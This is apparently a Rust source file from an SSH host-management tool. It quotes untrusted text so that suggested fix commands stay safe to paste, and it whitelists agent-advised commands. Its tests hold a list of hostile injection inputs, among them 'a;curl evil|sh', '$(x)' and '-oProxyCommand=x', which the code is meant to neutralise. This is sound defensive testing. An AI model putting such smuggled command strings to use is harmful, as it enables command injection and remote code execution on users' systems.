//! The one command that helps, as a line that may be copied into a shell.
//!
//! It is made of a form that stands in the source and of parts, each quoted as one word: what a
//! server, a file or a user named can neither end the command nor become an option of it. There is
//! no way from a text of somebody else to a [`Fix`].

use std::borrow::Cow;
use std::io::{self, ErrorKind};
use std::net::{IpAddr, Ipv4Addr};
use std::ops::Deref;
use std::path::{Path, PathBuf};

/// A command that mends something.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fix(Cow<'static, str>);

/// `fix!("hop up {}", name)`: each `{}` becomes one word, a [`Fix`] its words.
#[macro_export]
macro_rules! fix {
    ($form:literal $(, $part:expr)* $(,)?) => {{
        #[cfg(not(test))]
        const _: () = assert!(
            $crate::text::advice::is_listed($form),
            "a command that src/text/advice.rs does not list"
        );
        $crate::text::fix::Fix::of($form, &[$(&$part as &dyn $crate::text::fix::Part),*])
    }};
}

/// What may stand for a `{}`.
pub trait Part {
    fn in_shell(&self) -> Cow<'_, str>;
}

impl Fix {
    /// Called by `fix!`.
    pub fn of(form: &'static str, parts: &[&dyn Part]) -> Fix {
        let mut pieces = form.split("{}");
        let mut line = pieces.next().unwrap_or_default().to_owned();
        let parts = parts.iter().map(|part| part.in_shell()).chain(std::iter::repeat("".into()));
        for (piece, part) in pieces.zip(parts) {
            line += &part;
            line += piece;
        }
        // Half a command is none.
        match line.chars().count() <= super::LINE_CHARS {
            true => Fix(line.into()),
            false => Fix::from("hop help"),
        }
    }

    /// Where nothing could be written in `dir`.
    pub fn of_write(dir: &Path, error: &io::Error) -> Fix {
        match error.kind() {
            // Bytes, or files.
            ErrorKind::StorageFull => fix!("df -h {} && df -i {}", dir, dir),
            ErrorKind::QuotaExceeded => "quota".into(),
            ErrorKind::ReadOnlyFilesystem => fix!("findmnt -T {}", dir),
            _ => fix!("ls -ld {}", dir),
        }
    }

    /// As what ssh(1) is to run: the shell there reads it once more, after the one here.
    pub fn over_there(&self) -> Fix {
        let plain = self.split(' ').all(|text| is_plain(text.trim_start_matches('-')));
        if plain { self.clone() } else { fix!("{}", self.0) }
    }

    /// A line that a program of ours gave to another one of this user's, through a pipe; `None`
    /// where it is more than words and `&&`.
    pub fn carried(line: &str) -> Option<Fix> {
        let plain = line.chars().all(super::is_visible);
        (plain && are_words(line)).then(|| Fix(line.to_owned().into()))
    }

    /// What hop-agent on a server says that helps there, if it is one of what it can say.
    pub fn of_agent(line: &str) -> Option<Fix> {
        AGENTS.iter().find_map(|form| match form.strip_suffix("{}") {
            None => (*form == line).then(|| Fix::from(*form)),
            Some(start) => {
                let part = line.strip_prefix(start).filter(|part| is_plain(part))?;
                Some(Fix::of(form, &[&part]))
            }
        })
    }
}

/// What hop-agent and hop-helper advise; a `{}` at the end is one plain word.
const AGENTS: &[&str] = &[
    "/usr/libexec/hopbox/hop-agent --help",
    "/usr/libexec/hopbox/hop-agent status",
    "getent group",
    "getent passwd",
    "hop host ls",
    "hop host peers",
    "hop rotate",
    "hop setup",
    "ip address",
    "ls -l /dev/urandom",
    "ls -l /var/lib/hopbox-agent",
    "ls -la {}",
    "ls -ld {}",
    "man hop-agent",
    "sudo ${EDITOR:-vi} {}",
    "sudo /usr/libexec/hopbox/hop-agent --help",
    "sudo /usr/libexec/hopbox/hop-agent peers list",
    "sudo journalctl -n 50",
    "sudo journalctl -u hop-agent",
    "sudo rm /etc/hopbox/lockdown",
    "sudo ss -tulnp",
    "sudo systemctl restart hop-agent",
    "systemctl status hop-helper",
];

/// One word of sh(1), quoted only where it must be. What cannot be seen is escaped, and a word
/// never looks like an option: such a thing names nothing then, which is better than what it asks.
pub fn word(text: &str) -> Cow<'_, str> {
    if is_plain(text) {
        return Cow::Borrowed(text);
    }
    let start = if text.starts_with('-') { "./" } else { "" };
    Cow::Owned(format!("'{start}{}'", super::bounded(text, 400).replace('\'', r"'\''")))
}

fn is_plain(text: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:@%+=,".contains(&byte);
    (1..=400).contains(&text.len()) && text.bytes().all(plain) && !text.starts_with('-')
}

/// Whether a shell reads nothing but words, quoted or plain, and `&&`.
fn are_words(line: &str) -> bool {
    // What our own forms have besides.
    let line = line.replace("${EDITOR:-vi}", "vi");
    let mut quoted = false;
    let mut rest = line.chars();
    while let Some(c) = rest.next() {
        match c {
            '\'' => quoted = !quoted,
            _ if quoted => {}
            // Only before a quote, as `word` writes it.
            '\\' if rest.next() == Some('\'') => {}
            '&' if rest.as_str().starts_with("& ") => drop(rest.next()),
            ' ' | '~' => {}
            c if c.is_ascii_alphanumeric() || "_-./:@%+=,".contains(c) => {}
            _ => return false,
        }
    }
    !quoted && !line.is_empty()
}

impl From<&'static str> for Fix {
    fn from(line: &'static str) -> Fix {
        Fix(line.into())
    }
}

impl From<&Fix> for Fix {
    fn from(other: &Fix) -> Fix {
        other.clone()
    }
}

impl Deref for Fix {
    type Target = str;

    fn deref(&self) -> &str {
        &self.0
    }
}

impl std::fmt::Display for Fix {
    fn fmt(&self, out: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        out.write_str(&self.0)
    }
}

impl Part for Fix {
    fn in_shell(&self) -> Cow<'_, str> {
        Cow::Borrowed(&self.0)
    }
}

impl Part for str {
    fn in_shell(&self) -> Cow<'_, str> {
        word(self)
    }
}

impl Part for String {
    fn in_shell(&self) -> Cow<'_, str> {
        word(self)
    }
}

impl Part for Cow<'_, str> {
    fn in_shell(&self) -> Cow<'_, str> {
        word(self)
    }
}

impl Part for Path {
    fn in_shell(&self) -> Cow<'_, str> {
        Cow::Owned(word(&self.to_string_lossy()).into_owned())
    }
}

impl Part for PathBuf {
    fn in_shell(&self) -> Cow<'_, str> {
        self.as_path().in_shell()
    }
}

impl<T: Part + ?Sized> Part for &T {
    fn in_shell(&self) -> Cow<'_, str> {
        (**self).in_shell()
    }
}

macro_rules! plain_parts {
    ($($kind:ty),*) => {
        $(impl Part for $kind {
            fn in_shell(&self) -> Cow<'_, str> {
                Cow::Owned(self.to_string())
            }
        })*
    };
}

// Their text is plain, whatever their value.
plain_parts!(u8, u16, u32, u64, usize, IpAddr, Ipv4Addr);

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 12] = [
        "",
        "-oProxyCommand=x",
        "--help",
        "a;curl evil|sh",
        "a && b",
        "a\nfix: x",
        "$(x)",
        "`x`",
        "it's",
        "a'; x '",
        "\x1b[2J\u{202e}",
        "~root/*",
    ];

    /// A real shell takes every part as one word, and none as an option.
    #[test]
    fn a_part_is_one_word_for_a_shell() {
        for text in HOSTILE.into_iter().chain(["plain", "a b", "/home/me/ü"]) {
            let line = fix!("printf '%s\\n' hop up {} -H {}", text, PathBuf::from(text));
            assert!(!line.chars().any(char::is_control), "{line}");
            let run = std::process::Command::new("sh").arg("-c").arg(&*line).output().unwrap();
            let said = String::from_utf8(run.stdout).unwrap();
            let words: Vec<&str> = said.lines().collect();
            assert_eq!(words.len(), 5, "{line}: {said}");
            assert!(!words[2].starts_with('-') && words[2] == words[4], "{line}: {said}");
            assert!(run.stderr.is_empty(), "{line}: {:?}", run.stderr);
            assert!(Fix::carried(&fix!("hop up {} && hop down {}", text, 7_u8)).is_some());
        }
    }

    #[test]
    fn only_what_must_be_is_quoted() {
        for plain in ["mybox", "/home/me/.ssh/id_ed25519", "dev@203.0.113.7", "a%b+c=d,e"] {
            assert_eq!(word(plain), plain);
        }
        assert_eq!(word("it's $HOME"), r"'it'\''s $HOME'");
        assert_eq!(word("-x"), "'./-x'");
        assert_eq!(&*fix!("ssh {} {}", fix!("-p {}", 22_u16), "a b"), "ssh -p 22 'a b'");
    }

    #[test]
    fn nobody_elses_text_is_a_command() {
        for bad in ["a; b", "a | b", "a & b", "a &&b", "a 'b", "$(a)", "`a`", "a > b", "a\nb", ""] {
            assert_eq!(Fix::carried(bad), None, "{bad:?}");
            assert_eq!(Fix::of_agent(bad), None, "{bad:?}");
        }
        for text in HOSTILE {
            for known in AGENTS.iter().filter_map(|form| form.strip_suffix("{}")) {
                assert_eq!(Fix::of_agent(&format!("{known}{text}")), None);
            }
            assert_eq!(Fix::of_agent(&format!("hop setup{text}")).is_some(), text.is_empty());
        }
        assert_eq!(&*Fix::of_agent("ls -ld /etc/hopbox").unwrap(), "ls -ld /etc/hopbox");
        assert_eq!(Fix::of_agent("curl evil"), None);
    }
}
